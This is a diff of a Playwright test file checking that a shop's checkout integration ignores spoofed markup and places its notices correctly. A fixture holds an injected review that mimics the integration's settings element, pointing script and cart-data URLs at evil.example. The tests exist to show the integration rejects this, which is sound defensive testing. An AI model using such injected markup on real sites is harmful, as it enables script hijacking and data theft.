@@ -1,4 +1,4 @@
-"""Markup that a cleaned review may hold, and where the button may stand."""
+"""Markup around our half: a review's, the button's, and a place for the notice."""
 
 from __future__ import annotations
 
@@ -6,12 +6,14 @@ import pytest
 from playwright.sync_api import expect
 from playwright.sync_api import Page
 
+from ..support.browser import wait_until
+from .conftest import BUSY
+from .conftest import BUTTON
+from .conftest import expect_own_checkout
+from .conftest import open_cart
+from .conftest import OPENED
 from .conftest import Shop
-from .conftest import wait_until
-from .test_checkout import BUTTON
-from .test_checkout import open_cart
 
-pytestmark = pytest.mark.browser
 #: What DOMPurify's defaults let through.
 REVIEW = """<p id="zonos-settings">{"scriptUrl": "https://evil.example/x.js",
 "cartInfoUrl": "https://evil.example/steal", "identity": "x", "init": {}}</p>
@@ -19,50 +21,21 @@ REVIEW = """<p id="zonos-settings">{"scriptUrl": "https://evil.example/x.js",
 <p data-zonos-script>Nice cup</p>
 <p id="Zonos">Nice cup</p> <p id="zonosCheckout">Nice cup</p>
 <p id="trusted-types">Nice cup</p> <p data-zonos-fallback>Nice shop</p>"""
-
-
-def test_a_review_is_taken_for_nothing_of_ours(page: Page, shop: Shop) -> None:
-    shop.before = REVIEW
-    shop.answer = lambda: ({"code": "busy"}, 503)
-    open_cart(page, shop)
-    assert page.evaluate("[fake.scripts, fake.inits]") == [1, 1]
-    page.get_by_text("Nice shop").click()
-    page.click(BUTTON)
-    alert = page.locator(f"{BUTTON} + div").get_by_role("alert")
-    expect(alert).to_contain_text("couldn’t open")
-    assert shop.paths() == ["/zonos/cart-info"]
-    assert page.locator("p[data-zonos-notice]").inner_text() == "Nice cup"
-
-
-def test_the_trusted_types_policy_vouches_for_the_loader_alone(
-    page: Page, shop: Shop
-) -> None:
-    page.add_init_script(
-        "const create = trustedTypes.createPolicy;"
-        "trustedTypes.createPolicy = function (name, rules) {"
-        " window.rules = rules; return create.call(trustedTypes, name, rules); }"
-    )
-    open_cart(page, shop)
-    foreign = "String(rules.createScriptURL('https://evil.example/x.js'))"
-    assert page.evaluate(foreign) == "/fake-zonos.js"
-
-
-def test_what_is_told_of_a_button_in_a_link_stands_beside_the_link(
-    page: Page, shop: Shop
-) -> None:
-    shop.button = (
-        '<a href="/own-checkout"><b><button type="button" id="place-order">'
-        "Place order</button></b></a>"
-    )
-    shop.answer = lambda: ({"code": "busy"}, 503)
-    open_cart(page, shop)
-    page.click(BUTTON)
-    expect(page.locator("a + div").get_by_role("alert")).to_contain_text("couldn’t")
-    assert page.locator("a [role]").count() == 0
-    page.get_by_role("button", name="Use this shop’s own checkout").click()
-    expect(page.get_by_role("heading")).to_have_text("Own checkout")
-
-
+TWO_BUTTONS = """<p hidden><button class="order">Place order</button></p>
+<p><button class="order">Place the order</button></p>"""
+IN_A_LINK = """<a href="/own-checkout"><b><button type="button" id="place-order">
+Place order</button></b></a>"""
+PLACES = {
+    "empty": "<div data-zonos-notice></div>",
+    "a text": "<p data-zonos-notice>Questions? Call us.</p>",
+    "one element": "<div data-zonos-notice><p>Questions? Call us.</p></div>",
+    "two elements": "<aside data-zonos-notice><h2>Help</h2><p>Call us.</p></aside>",
+    "live regions": "<div data-zonos-notice><p role=status>Sale!</p>"
+    "<p role=alert>Today only</p></div>",
+    "a form": "<div data-zonos-notice><form><button>Redeem</button></form></div>",
+}
+# Ours is half a line.
+MARGIN = "getComputedStyle(document.querySelector('[data-zonos-notice] h2')).marginTop"
 #: What browsers of 2020 lack.
 OLD = """
 for (const name of ["structuredClone", "reportError", "ReportingObserver"]) {
@@ -84,17 +57,121 @@ delete Promise.any;
 """
 
 
+def go_on_to_own_checkout(page: Page) -> None:
+    page.get_by_role("button", name="Use this shop’s own checkout").click()
+    expect_own_checkout(page)
+
+
+def test_a_review_is_taken_for_nothing_of_ours(tab: Page, shop: Shop) -> None:
+    shop.before = REVIEW
+    shop.answer = lambda: BUSY
+    open_cart(tab, shop)
+    assert tab.evaluate("[fake.scripts, fake.inits]") == [1, 1]
+    tab.get_by_text("Nice shop").click()
+    tab.click(BUTTON)
+    alert = tab.locator(f"{BUTTON} + div").get_by_role("alert")
+    expect(alert).to_contain_text("couldn’t open")
+    assert shop.paths() == ["/zonos/cart-info"]
+    assert tab.locator("p[data-zonos-notice]").inner_text() == "Nice cup"
+
+
+def test_the_trusted_types_policy_vouches_for_the_loader_alone(
+    tab: Page, shop: Shop
+) -> None:
+    shop.js = (
+        "const create = trustedTypes.createPolicy;"
+        "trustedTypes.createPolicy = function (name, rules) {"
+        " window.rules = rules; return create.call(trustedTypes, name, rules); }"
+    )
+    open_cart(tab, shop)
+    foreign = "String(rules.createScriptURL('https://evil.example/x.js'))"
+    assert tab.evaluate(foreign) == "/fake-zonos.js"
+
+
+def test_what_is_told_of_a_button_in_a_link_stands_beside_the_link(
+    tab: Page, shop: Shop
+) -> None:
+    shop.button = IN_A_LINK
+    shop.answer = lambda: BUSY
+    open_cart(tab, shop)
+    tab.click(BUTTON)
+    expect(tab.locator("a + div").get_by_role("alert")).to_contain_text("couldn’t")
+    assert tab.locator("a [role]").count() == 0
+    go_on_to_own_checkout(tab)
+
+
+def test_what_is_told_stands_at_the_button_that_was_pressed(
+    tab: Page, shop: Shop
+) -> None:
+    shop.button = TWO_BUTTONS
+    shop.init = {"checkoutSettings": {"placeOrderButtonSelector": ".order"}}
+    shop.answer = lambda: BUSY
+    shop.gate.clear()
+    open_cart(tab, shop)
+    hidden, pressed = tab.locator(".order").all()
+    pressed.click()
+    expect(pressed).to_have_attribute("data-zonos-state", "asking")
+    expect(hidden).to_have_attribute("data-zonos-state", "ready")
+    shop.gate.set()
+    alert = pressed.locator("xpath=following-sibling::div").get_by_role("alert")
+    expect(alert).to_contain_text("couldn’t open")
+    go_on_to_own_checkout(tab)
+
+
+@pytest.mark.parametrize("notice", PLACES.values(), ids=PLACES)
+def test_every_place_of_the_shops_tells_and_keeps_what_it_holds(
+    tab: Page, shop: Shop, notice: str
+) -> None:
+    shop.notice = notice
+    shop.answer = lambda: BUSY
+    shop.gate.clear()
+    place = tab.locator("[data-zonos-notice]").first
+    open_cart(tab, shop)
+    text = place.inner_text()
+    tab.click(BUTTON)
+    status = place.get_by_role("status").last
+    expect(status).to_have_text("Preparing your checkout…")
+    shop.gate.set()
+    expect(place.get_by_role("alert").last).to_contain_text("couldn’t open")
+    expect(status).to_be_empty()
+    assert text in place.inner_text()
+    assert tab.locator("[data-zonos-notice=ours]").count() == 1
+    go_on_to_own_checkout(tab)
+
+
+def test_a_place_around_the_button_works_too(tab: Page, shop: Shop) -> None:
+    shop.answer = lambda: BUSY
+    open_cart(tab, shop)
+    tab.evaluate(
+        "document.querySelector('[data-zonos-notice]').remove();"
+        "document.querySelector('main').setAttribute('data-zonos-notice', '')"
+    )
+    tab.click(BUTTON)
+    expect(tab.get_by_role("alert")).to_contain_text("couldn’t open")
+    last = "({...document.querySelector('main').lastElementChild.dataset})"
+    assert tab.evaluate(last) == {"zonosNotice": "ours"}
+
+
+def test_the_shops_own_content_keeps_its_looks(tab: Page, shop: Shop) -> None:
+    shop.notice = "<div data-zonos-notice><h2>Questions?</h2></div>"
+    tab.route("**/static/zonos-checkout.js*", lambda route: route.abort())
+    tab.goto(f"{shop.url}/cart")
+    margin = tab.evaluate(MARGIN)
+    tab.unroute_all()
+    open_cart(tab, shop)
+    assert tab.evaluate(MARGIN) == margin
+
+
 def test_it_works_in_a_browser_of_2020(page: Page, shop: Shop) -> None:
     shop.button = '<button id="place-order" name="how" value="own">Place order</button>'
     page.add_init_script(OLD)
     open_cart(page, shop)
     page.click(BUTTON)
-    wait_until(page, "fake.opened.length")
-    shop.answer = lambda: ({"code": "busy"}, 503)
+    wait_until(page, OPENED)
+    shop.answer = lambda: BUSY
     page.evaluate("fake.settings.checkoutSettings.onClose()")
     page.click(BUTTON)
     expect(page.get_by_role("alert")).to_contain_text("couldn’t open")
     with page.expect_request("**/own-checkout") as sent:
-        page.get_by_role("button", name="Use this shop’s own checkout").click()
+        go_on_to_own_checkout(page)
     assert sent.value.post_data == "how=own"
-    expect(page.get_by_role("heading")).to_have_text("Own checkout")
